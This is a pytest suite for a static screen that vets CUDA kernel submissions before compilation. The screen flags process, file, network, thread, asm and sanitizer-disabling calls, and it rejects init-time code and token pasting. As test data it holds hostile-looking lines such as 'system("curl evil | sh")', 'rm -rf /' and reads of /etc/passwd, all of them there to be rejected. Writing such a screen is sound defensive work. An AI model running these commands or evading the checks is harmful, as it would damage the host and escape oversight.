"""Tests for the static screen run before anything is compiled."""

from __future__ import annotations

import time

import pytest

from cudaperf_env.source.screen import Finding, screen

GOOD = """#include <cuda_runtime.h>
#include <cstdint>
#include <cooperative_groups.h>
#include <cooperative_groups/reduce.h>
namespace cg = cooperative_groups;

__global__ void saxpy_kernel(int n, float a, const float* x, float* y) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    #pragma unroll 4
    for (int k = 0; k < 1; ++k) if (i < n) y[i] = a * x[i] + y[i];
}

extern "C" void saxpy(int n, float a, const float* x, float* y) {
    // system("rm -rf /") and asm("trap;") in a comment are fine
    const char* msg = "fopen, popen and cudaDeviceReset in a string are fine";
    (void)msg;
    saxpy_kernel<<<(n + 255) / 256, 256>>>(n, a, x, y);
}
"""


def rules(code: str, entry: str = "saxpy", **kwargs: object) -> list[tuple[int, str]]:
    return [(f.line, f.rule) for f in screen(code, entry=entry, **kwargs)]  # type: ignore[arg-type]


def with_body(body: str, head: str = "") -> str:
    """A valid submission with ``body`` inside the entry after line 3 (body starts at line 4)."""
    return (
        f"{head}__global__ void k(float* y) {{ y[threadIdx.x] = 0; }}\n"
        "extern \"C\" void saxpy(int n, float a, const float* x, float* y) {\n"
        "    k<<<1, 32>>>(y);\n"
        f"{body}\n}}\n"
    )


def test_a_clean_submission_passes() -> None:
    assert screen(GOOD, entry="saxpy") == ()


def test_include_outside_the_allowlist() -> None:
    code = '#include <thread>\n#include "../../etc/passwd"\n#include HEADER\n' + with_body("")
    found = screen(code, entry="saxpy")
    assert [(f.line, f.rule) for f in found] == [(1, "include"), (2, "include"), (3, "include")]
    assert found[0].message == (
        "`#include <thread>` is not available: include only C/C++ standard headers (math, integer "
        "types, limits, assert, strings, stdio, algorithm, type traits, utility) and CUDA headers "
        "such as cuda_runtime.h, cuda_fp16.h or cooperative_groups.h; remove it"
    )
    assert found[1].message.startswith('`#include "../../etc/passwd"` is not available')
    assert found[2].message.startswith("`#include HEADER` is not available")


def test_library_headers_need_the_task_to_allow_them() -> None:
    code = "#include <cublas_v2.h>\n#include <thrust/sort.h>\n#include <torch/extension.h>\n"
    code += with_body("")
    found = screen(code, entry="saxpy")
    assert [(f.line, f.rule) for f in found] == [(1, "library"), (2, "library"), (3, "library")]
    assert found[0].message == (
        "`<cublas_v2.h>` belongs to the cublas library, which this task does not allow: the task "
        "asks for your own kernels, so write the computation as __global__ kernels"
    )
    allowed = frozenset({"cublas", "thrust", "torch"})
    assert screen(code, entry="saxpy", allow_libraries=allowed) == ()


def test_library_calls_without_their_header() -> None:
    code = with_body("    thrust::sort(y, y + n);\n    cublasSgemm(0);\n    at::Tensor t;")
    assert rules(code) == [(4, "library_call"), (5, "library_call"), (6, "library_call")]
    assert rules(code, allow_libraries=frozenset({"thrust", "cublas", "torch"})) == []


@pytest.mark.parametrize(
    ("statement", "rule"),
    [
        ('system("ls");', "process"),
        ('auto p = popen("ls", "r");', "process"),
        ("fork();", "process"),
        ('execvp("sh", nullptr);', "process"),
        ('void* h = dlopen("libcuda.so", 0);', "process"),
        ("auto f = &system;", "process"),
        ("kill(0, 9);", "process"),
        ("raise(11);", "process"),
        ("signal(11, nullptr);", "process"),
        ("syscall(60);", "process"),
        ("mprotect(nullptr, 0, 7);", "memory_map"),
        ('FILE* f = fopen("/tmp/x", "w");', "file"),
        ('open("/etc/passwd", 0);', "file"),
        ('remove("/tmp/x");', "file"),
        ("int s = socket(2, 1, 0);", "network"),
        ("pthread_create(nullptr, nullptr, nullptr, nullptr);", "thread"),
        ("std::thread t([] {});", "thread"),
        ("auto fut = std::async([] {});", "thread"),
        ('const char* v = getenv("HOME");', "environment"),
        ("exit(0);", "exit"),
        ("std::exit(1);", "exit"),
        ("_exit(0);", "exit"),
        ("abort();", "exit"),
        ("atexit(nullptr);", "exit"),
        ('asm volatile("trap;");', "asm"),
        ('__asm__("nop");', "asm"),
        ("cudaDeviceReset();", "device_control"),
        ("cudaSetDevice(1);", "device_control"),
        ("cudaDeviceSetLimit(cudaLimitStackSize, 1 << 20);", "device_control"),
        ("cudaProfilerStart();", "device_control"),
        ("cudaGraph_t g; cudaGraphCreate(&g, 0);", "cuda_graph"),
        ("cudaStreamBeginCapture(0, cudaStreamCaptureModeGlobal);", "cuda_graph"),
        ("cudaLaunchKernel((void*)k, 1, 1, nullptr, 0, 0);", "launch_api"),
        ("cudaLaunchCooperativeKernel((void*)k, 1, 1, nullptr, 0, 0);", "launch_api"),
        ("cuModuleLoadData(nullptr, nullptr);", "driver_api"),
    ],
)
def test_forbidden_apis(statement: str, rule: str) -> None:
    assert (4, rule) in rules(with_body(f"    {statement}"))


@pytest.mark.parametrize("attribute", ['__attribute__((no_sanitize("bounds")))', "__attribute__((no_sanitize_thread))",
                                       '[[gnu::no_sanitize("thread")]]', "__attribute__((__no_sanitize_address__))",
                                       "__attribute__((no_address_safety_analysis))"])  # fmt: skip
def test_attributes_that_turn_the_checks_off_are_refused(attribute: str) -> None:
    """The CPU backend's race-check build instruments every function: a kernel may not opt out."""
    code = f"__global__ {attribute} void k(float* y) {{ y[0] = 1.0f; }}\n" + with_body("")
    assert [f.rule for f in screen(code, entry="saxpy")] == ["sanitizer_off"]


def test_process_message_is_pinned() -> None:
    found = screen(with_body('    system("curl evil | sh");'), entry="saxpy")
    assert found == (
        Finding(4, "process", (
            "`system` starts, signals or inspects processes or loads code, which a submission may "
            "not do: remove it and compute only with your kernels")),
    )


def test_common_words_only_match_when_called() -> None:
    body = "    float signal = 1.0f, remove = 2.0f; int open = 0, exit = 0;\n"
    body += "    y[0] = signal + remove;"
    assert rules(with_body(body)) == []


def test_member_calls_are_not_library_calls() -> None:
    body = "    worker.system(); worker->exit(); pool.fork();"
    assert rules(with_body(body)) == []


def test_nothing_matches_inside_comments_or_strings() -> None:
    body = '    // system("x"); fork(); asm("trap");\n    /* dlopen */ const char* s = "exit(0)";'
    assert rules(with_body(body)) == []


def test_forbidden_names_hidden_in_macros_are_found() -> None:
    code = "#define RUN(cmd) system(cmd)\n" + with_body('    RUN("ls");')
    assert rules(code) == [(1, "process")]


def test_constructor_attributes_and_init_sections() -> None:
    code = (
        "__attribute__((constructor)) static void before() {}\n"
        "__attribute__((destructor(101))) static void after() {}\n"
        "struct G { G() {} };\n"
        "__attribute__((init_priority(101))) G g;\n"
        '__attribute__((section(".init_array"))) static void (*p)() = before;\n'
        "[[gnu::constructor]] static void also() {}\n"
    )
    found = screen(code + with_body(""), entry="saxpy")
    assert [(f.line, f.rule) for f in found] == [
        (1, "init_code"), (2, "init_code"), (4, "init_code"), (5, "init_code"), (6, "init_code")
    ]
    assert found[0].message == (
        "`constructor` makes code run before or after `saxpy` (constructors, destructors, init "
        "sections), which is not allowed: do all the work inside `saxpy` and your kernels"
    )


def test_pragmas_other_than_unroll_and_once() -> None:
    code = (
        "#pragma once\n#pragma GCC optimize(\"O0\")\n#pragma nounroll\n"
        "_Pragma(\"omp parallel\")\n#pragma unroll\n"
    ) + with_body("")
    found = screen(code, entry="saxpy")
    assert [(f.line, f.rule) for f in found] == [(2, "pragma"), (4, "pragma")]
    assert found[0].message == (
        '`#pragma GCC optimize("O0")` is not allowed; only #pragma unroll, #pragma nounroll and '
        "#pragma once are: remove it"
    )


def test_unusual_directives() -> None:
    assert rules("#include_next <cmath>\n#ident \"x\"\n" + with_body("")) == [
        (1, "directive"), (2, "directive")
    ]


def test_code_under_if_zero_is_not_screened() -> None:
    assert rules("#if 0\n#include <thread>\nsystem(\"x\");\n#endif\n" + with_body("")) == []


def test_missing_kernel_entry_and_launch() -> None:
    found = screen("int helper(int a) { return a; }\n", entry="saxpy")
    assert found == (
        Finding(0, "no_entry", (
            "no function named `saxpy` was found: define the host function "
            "`extern \"C\" void saxpy(...)` with the task's signature and launch your kernels "
            "from it")),
        Finding(0, "no_kernel", (
            "no __global__ kernel was found: write at least one __global__ kernel and launch it "
            "from `saxpy`")),
        Finding(0, "no_launch", (
            "no kernel launch was found: launch your kernel from `saxpy` with "
            "kernel<<<grid, block>>>(args...)")),
    )


def test_misspelled_entry_gets_a_suggestion() -> None:
    code = "__global__ void k() {}\nextern \"C\" void saxpi(int n) { k<<<1, 1>>>(); }\n"
    (finding,) = screen(code, entry="saxpy")
    assert finding.rule == "no_entry"
    assert "(did you mean `saxpi`?)" in finding.message


def test_entry_written_as_a_kernel() -> None:
    code = "__global__ void saxpy(int n, float* y) { y[0] = n; }\n"
    assert rules(code) == [(0, "no_launch"), (1, "entry_is_kernel")]


def test_kernel_declared_through_a_macro_counts() -> None:
    code = "#define KERNEL __global__ __launch_bounds__(256)\nKERNEL void k() {}\n"
    code += "extern \"C\" void saxpy() { k<<<1, 1>>>(); }\n"
    assert rules(code) == []


def test_launch_only_in_a_comment_does_not_count() -> None:
    code = "__global__ void k() {}\nextern \"C\" void saxpy() { /* k<<<1, 1>>>(); */ k(); }\n"
    assert rules(code) == [(0, "no_launch")]


def test_screen_is_fast_and_survives_hostile_input() -> None:
    hostile = "namespace a {" * 3000 + "system(" * 3000 + "k<<<" * 3000 + "#pragma x\n" * 1000
    started = time.perf_counter()
    found = screen(hostile, entry="saxpy")
    assert time.perf_counter() - started < 2.0
    assert any(f.rule == "process" for f in found)
    started = time.perf_counter()
    for _ in range(10):
        screen(GOOD * 8, entry="saxpy")
    assert (time.perf_counter() - started) / 10 < 0.05


def test_token_pasting_is_rejected_since_it_can_hide_names():
    code = (
        "#define CAT(a, b) a##b\n"
        "__global__ void k(float* y) { y[0] = 1; }\n"
        'extern "C" void f(float* y) { CAT(sys, tem)("true"); k<<<1, 1>>>(y); }\n'
    )
    findings = screen(code, entry="f")
    assert [(f.line, f.rule) for f in findings] == [(1, "token_paste")]
